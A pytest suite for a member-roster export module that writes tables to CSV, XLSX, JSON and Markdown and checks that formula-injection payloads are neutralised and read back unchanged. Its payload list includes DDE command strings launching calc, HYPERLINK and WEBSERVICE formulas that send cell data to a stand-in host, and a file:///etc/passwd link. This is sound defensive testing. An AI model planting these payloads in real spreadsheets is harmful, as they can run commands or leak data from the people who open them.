"""What members typed leaves as text in every format, numbers leave as numbers, and all of it reads back."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from qunguan.domain.errors import BadInput
from qunguan.exchange.readers.cells import text_cell
from qunguan.exchange.readers.rosters import read_roster
from qunguan.exchange.readers.sheets import read_sheet
from qunguan.exchange.triggers import TRIGGERS
from qunguan.exchange.writers.tables import SUFFIXES, Column, Table, escaped, guarded, write_csv, write_table

PAYLOADS = [
    *(f"{mark}1+1" for mark in TRIGGERS.replace("\0", "")),
    *(f" {mark}1+1" for mark in TRIGGERS.replace("\0", "")),
    *(f"'{mark}1+1" for mark in TRIGGERS.replace("\0", "")),
    '=HYPERLINK("http://x.test?a="&A1,"点我")', "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0", '=IMPORTXML("http://x.test","//a")', '=WEBSERVICE("http://x.test")', "=1+1;2", "=1+1\"",
    "%0A=1", "|calc", "=@SUM(A1)", "==1", "= 1", "''=1", "'' =1", '="0012"', "==\"a\"", "{=1+1}", "#N/A", "#REF!",
    "http://x.test", "mailto:a@x.test", "file:///etc/passwd", "internal:Sheet1!A1", "=1\n=2", "a\n=1", "a\t=1", "a,=1",
    "a;=1", '"=1', "１２３", "＝1+1", "＠SUM", "－1", "00123", "1e5", "12345678901234567890", "TRUE", "2024-03-01",
    "1/2", "'", "''", "-", "=", "|", "%", "<b>x</b>", "[点我](http://x.test)", "![](http://x.test/a.png)", "`rm`",
    "a|b", "\\|",
]  # fmt: skip


def table(*rows, kinds=("text",)) -> Table:
    return Table("成员", tuple(Column(f"c{i}", f"列{i}", kind) for i, kind in enumerate(kinds)), rows)


def trigger(text: str) -> bool:
    """Written again here, so that a hole in the guard is not also a hole in the test."""
    return text.strip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠"))


def test_there_are_payloads_enough():
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_payload_runs_and_each_reads_back(tmp_path: Path, suffix):
    path = tmp_path / f"out{suffix}"
    write_table(path, table(*([text, 1] for text in PAYLOADS), kinds=("text", "int")))
    if suffix == ".csv":
        cells = [row[0] for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))]
    else:
        sheet = load_workbook(path).worksheets[0]
        assert {cell.data_type for cell in sheet["A"]} == {"s"}
        assert {cell.data_type for cell in sheet["B"][1:]} == {"n"}
        assert not any(cell.hyperlink for cell in sheet["A"])
        cells = [str(cell.value) for cell in sheet["A"]]
    assert not [cell for cell in cells[1:] if trigger(cell)]
    back = [text_cell(row.cell(0)) for row in read_sheet(path).rows[1:]]
    expected = PAYLOADS if suffix == ".csv" else [text.replace("\r", "\n") for text in PAYLOADS]
    # An ="…" of our own making stands behind a guard; everything returns as it was.
    assert back == expected


def test_payloads_in_json_are_the_texts_themselves(tmp_path: Path):
    path = tmp_path / "out.json"
    write_table(path, table(*([text] for text in PAYLOADS)))
    assert [row["c0"] for row in json.loads(path.read_bytes())["rows"]] == PAYLOADS


def test_payloads_in_markdown_make_no_cell_link_or_picture(tmp_path: Path):
    path = tmp_path / "out.md"
    write_table(path, table(*([text] for text in PAYLOADS)))
    lines = path.read_text().splitlines()
    assert len(lines) == 4 + len(PAYLOADS)
    for line in lines[4:]:
        bare = line.replace("\\\\", "").replace("\\|", "")
        assert bare.count("|") == 2
        for mark in "[]<>`*_!":
            assert bare.count(mark) == bare.count("\\" + mark)


def test_values_by_kind(tmp_path: Path):
    kinds = ("text", "int", "money", "rate", "date")
    rows = table(("甲", -5, -1205, 0.125, date(2024, 3, 9)), (None, None, None, float("nan"), None), kinds=kinds)
    for suffix in SUFFIXES:
        write_table(tmp_path / f"t{suffix}", rows)
    assert (tmp_path / "t.csv").read_bytes().decode("utf-8-sig").splitlines()[1:] == [
        '"甲","-5","-12.05","12.5%","2024-03-09"',
        '"","","","",""',
    ]
    values = [[cell.value for cell in row] for row in load_workbook(tmp_path / "t.xlsx").worksheets[0].iter_rows(2, 2)]
    assert values[0][:4] == ["甲", -5, -12.05, 0.125]
    assert str(values[0][4]) == "2024-03-09 00:00:00"
    first, second = json.loads((tmp_path / "t.json").read_bytes())["rows"]
    assert list(first.values()) == ["甲", -5, -1205, 0.125, "2024-03-09"]
    assert set(second.values()) == {None}
    assert (tmp_path / "t.md").read_text().splitlines()[-2:] == [
        "| 甲 | -5 | -12.05 | 12.5% | 2024-03-09 |",
        "| — | — | — | — | — |",
    ]


def test_a_roster_written_is_the_roster_read(tmp_path: Path):
    names = ["阿梨", "团团妈,二宝", "Crystal🍀", "=1+1", "@全体", "-_-", "'引号", "a|b", "+1", "0012"]
    columns = (Column("name", "昵称"), Column("phone", "手机号"), Column("joined_on", "入群日期", "date"))
    rows = [(name, f"1380000{n:04}", date(2024, 3, n + 1)) for n, name in enumerate(names)]
    for suffix in (".csv", ".xlsx"):
        path = tmp_path / f"members{suffix}"
        write_table(path, Table("成员", columns, rows))
        found = read_roster(read_sheet(path))
        assert [(e.name, e.phone, date.fromisoformat(e.joined_on or "")) for e in found.entries] == rows


def test_long_and_unwritable_texts_still_make_a_readable_workbook(tmp_path: Path):
    path = tmp_path / "t.xlsx"
    write_table(
        path,
        Table(
            "a/b:[c]*" * 9,
            (Column("c", "c"), Column("n", "n", "int")),
            [("长" * 40_000, 10**17), ("a\0\ud800\uffff\x1bb", 1)],
        ),
    )
    sheet = load_workbook(path).worksheets[0]
    assert len(sheet["A2"].value) <= 32_767
    assert "40000" in sheet["A2"].value[-40:]
    assert sheet["B2"].value == str(10**17)
    assert sheet["A3"].value == "ab"
    write_table(tmp_path / "t.csv", table(("\0=1",)))
    assert '"\'=1"' in (tmp_path / "t.csv").read_text("utf-8-sig")


def test_equal_tables_are_equal_files(tmp_path: Path):
    for name in ("a", "b"):
        for suffix in SUFFIXES:
            write_table(tmp_path / (name + suffix), table(("甲",)))
    for suffix in SUFFIXES:
        assert (tmp_path / f"a{suffix}").read_bytes() == (tmp_path / f"b{suffix}").read_bytes()


@pytest.mark.parametrize("name", ["out", "out.xls", "out.pdf", ".csv"])
def test_an_unknown_suffix_is_refused_with_the_four(tmp_path: Path, name):
    with pytest.raises(BadInput) as refusal:
        write_table(tmp_path / name, table())
    assert refusal.value.values["suffixes"] == ".csv .xlsx .json .md"
    assert not (tmp_path / name).exists()


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(codec="utf-8"), max_size=30))
def test_no_text_leaves_a_csv_unguarded_or_changed(text):
    file = io.BytesIO()
    write_csv(table((text,)), file)
    (cell,) = list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))[1]
    assert not trigger(cell)
    assert cell == guarded(text)
    assert "|" not in escaped(text).replace("\\\\", "").replace("\\|", "")
